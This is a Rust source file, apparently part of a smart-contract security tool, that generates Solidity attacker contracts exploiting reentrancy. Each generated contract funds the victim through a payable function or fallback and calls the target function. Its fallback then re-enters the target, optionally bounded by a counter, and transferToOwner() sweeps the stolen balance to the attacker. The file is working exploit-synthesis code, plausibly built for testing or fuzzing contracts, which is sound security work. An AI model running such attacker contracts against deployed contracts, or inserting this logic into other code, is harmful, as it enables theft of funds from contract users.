//! Attacker contract synthesis.
//!
//! The generated contract holds the owner, the victim address and a typed
//! handle to the victim. `attack()` optionally deposits funds into the
//! victim, then calls the target function. The payable fallback re-enters
//! the target, optionally guarded by a reentry counter, and
//! `transferToOwner()` sweeps the proceeds.

use std::fmt::Write;

use crate::frontend::{self, AbiEntry, AbiSpec, FrontendError, SourceUnit};
use crate::types::{Address, Wei};

pub const ATTACKER_PRAGMA: &str = ">=0.4.22 <0.6.0";

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SynthError {
    #[error("`{0}` is not an attackable function (constructor, fallback or non-public)")]
    NonAttackableTarget(String),
    #[error("`{function}` takes {expected} argument(s), plan supplies {found}")]
    ArityMismatch {
        function: String,
        expected: usize,
        found: usize,
    },
    #[error("cannot deposit {0} wei: `{1}` has no payable entry point")]
    NoFundingPath(Wei, String),
    #[error("unsupported parameter type `{0}`")]
    UnsupportedParamType(String),
    #[error("generated attacker failed to parse: {0}")]
    Malformed(#[from] FrontendError),
}

/// Argument passed to the target function.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArgValue {
    Uint(Wei),
    Bool(bool),
    Address(Address),
    /// The attacker contract's own address.
    SelfAddress,
}

impl ArgValue {
    /// Deterministic default for an ABI type.
    pub fn default_for(abi_type: &str) -> Result<Self, SynthError> {
        match abi_type {
            "uint256" => Ok(ArgValue::Uint(Wei::zero())),
            "bool" => Ok(ArgValue::Bool(false)),
            "address" => Ok(ArgValue::SelfAddress),
            other => Err(SynthError::UnsupportedParamType(other.to_string())),
        }
    }

    fn source(&self) -> String {
        match self {
            ArgValue::Uint(v) => v.to_string(),
            ArgValue::Bool(b) => b.to_string(),
            ArgValue::Address(a) => a.to_string(),
            ArgValue::SelfAddress => "address(this)".to_string(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackPlan {
    pub target_contract: String,
    pub target_function: String,
    pub entry_args: Vec<ArgValue>,
    /// Bound on re-entrant calls from the fallback; `None` recurses until the
    /// victim reverts or the call depth limit is reached.
    pub max_reentry: Option<u32>,
    pub funding: Wei,
}

impl AttackPlan {
    /// Plan with default arguments for every input of `function`.
    pub fn with_defaults(
        abi: &AbiSpec,
        contract: &str,
        function: &str,
        funding: Wei,
        max_reentry: Option<u32>,
    ) -> Result<Self, SynthError> {
        let entry = attackable_entry(abi, function)?;
        let entry_args = entry
            .input_types()
            .into_iter()
            .map(ArgValue::default_for)
            .collect::<Result<_, _>>()?;
        Ok(AttackPlan {
            target_contract: contract.to_string(),
            target_function: function.to_string(),
            entry_args,
            max_reentry,
            funding,
        })
    }
}

fn attackable_entry<'a>(abi: &'a AbiSpec, function: &str) -> Result<&'a AbiEntry, SynthError> {
    abi.function(function)
        .ok_or_else(|| SynthError::NonAttackableTarget(function.to_string()))
}

/// How the attacker gets its deposit into the victim.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FundingPath {
    /// A payable named function other than the target.
    Function { name: String, args: Vec<ArgValue> },
    /// A bare value call that lands in the payable fallback.
    Fallback,
    /// The target itself is payable: deposit and attack in one call.
    Target,
}

/// Picks the deposit route, preferring a dedicated payable function.
pub fn funding_path(abi: &AbiSpec, target: &str) -> Option<FundingPath> {
    let dedicated = abi.entries.iter().find_map(|e| {
        let name = e.name.as_deref()?;
        if e.kind != frontend::AbiEntryType::Function || !e.payable || name == target {
            return None;
        }
        let args = e
            .input_types()
            .into_iter()
            .map(ArgValue::default_for)
            .collect::<Result<Vec<_>, _>>()
            .ok()?;
        Some(FundingPath::Function {
            name: name.to_string(),
            args,
        })
    });
    if dedicated.is_some() {
        return dedicated;
    }
    if abi.fallback().is_some_and(|f| f.payable) {
        return Some(FundingPath::Fallback);
    }
    if abi.function(target).is_some_and(|f| f.payable) {
        return Some(FundingPath::Target);
    }
    None
}

pub fn attacker_name(victim: &str) -> String {
    format!("AttackerContract_{victim}")
}

/// File name used when writing a rendered attacker to disk.
pub fn attacker_file_name(victim: &str, function: &str) -> String {
    format!("Attacker_{victim}_{function}.sol")
}

pub fn synthesize_attacker(abi: &AbiSpec, plan: &AttackPlan) -> Result<SourceUnit, SynthError> {
    let entry = attackable_entry(abi, &plan.target_function)?;
    let expected = entry.input_types().len();
    if expected != plan.entry_args.len() {
        return Err(SynthError::ArityMismatch {
            function: plan.target_function.clone(),
            expected,
            found: plan.entry_args.len(),
        });
    }
    let funding =
        if plan.funding.is_zero() {
            None
        } else {
            Some(funding_path(abi, &plan.target_function).ok_or_else(|| {
                SynthError::NoFundingPath(plan.funding, plan.target_contract.clone())
            })?)
        };

    let victim = &plan.target_contract;
    let target = &plan.target_function;
    let args = join_args(&plan.entry_args);
    let mut src = String::new();
    writeln!(src, "pragma solidity {ATTACKER_PRAGMA};").unwrap();
    writeln!(src, "import \"{victim}.sol\";").unwrap();
    writeln!(src, "contract {} {{", attacker_name(victim)).unwrap();
    src.push_str("    address payable private _owner;\n");
    src.push_str("    address payable private _vulnerableAddr;\n");
    writeln!(src, "    {victim} public fd;").unwrap();
    if plan.max_reentry.is_some() {
        src.push_str("    uint256 private reentryCount;\n");
    }

    src.push_str("    constructor(address payable vulnerableAddr) public payable {\n");
    src.push_str("        _owner = msg.sender;\n");
    src.push_str("        _vulnerableAddr = vulnerableAddr;\n");
    writeln!(src, "        fd = {victim}(vulnerableAddr);").unwrap();
    src.push_str("    }\n");

    src.push_str("    function attack() public payable {\n");
    let funds = &plan.funding;
    match &funding {
        None => writeln!(src, "        fd.{target}({args});").unwrap(),
        Some(FundingPath::Function { name, args: fargs }) => {
            writeln!(
                src,
                "        fd.{name}.value({funds})({});",
                join_args(fargs)
            )
            .unwrap();
            writeln!(src, "        fd.{target}({args});").unwrap();
        }
        Some(FundingPath::Fallback) => {
            writeln!(src, "        _vulnerableAddr.call.value({funds})(\"\");").unwrap();
            writeln!(src, "        fd.{target}({args});").unwrap();
        }
        Some(FundingPath::Target) => {
            writeln!(src, "        fd.{target}.value({funds})({args});").unwrap()
        }
    }
    src.push_str("    }\n");

    src.push_str("    function() external payable {\n");
    match plan.max_reentry {
        None => writeln!(src, "        fd.{target}({args});").unwrap(),
        Some(k) => {
            writeln!(src, "        if (reentryCount < {k}) {{").unwrap();
            src.push_str("            reentryCount += 1;\n");
            writeln!(src, "            fd.{target}({args});").unwrap();
            src.push_str("        }\n");
        }
    }
    src.push_str("    }\n");

    src.push_str("    function transferToOwner() public {\n");
    src.push_str("        _owner.transfer(address(this).balance);\n");
    src.push_str("    }\n");
    src.push_str("}\n");

    Ok(frontend::parse(&src)?)
}

fn join_args(args: &[ArgValue]) -> String {
    args.iter()
        .map(ArgValue::source)
        .collect::<Vec<_>>()
        .join(", ")
}

pub fn render_attacker(unit: &SourceUnit) -> String {
    frontend::render(unit)
}
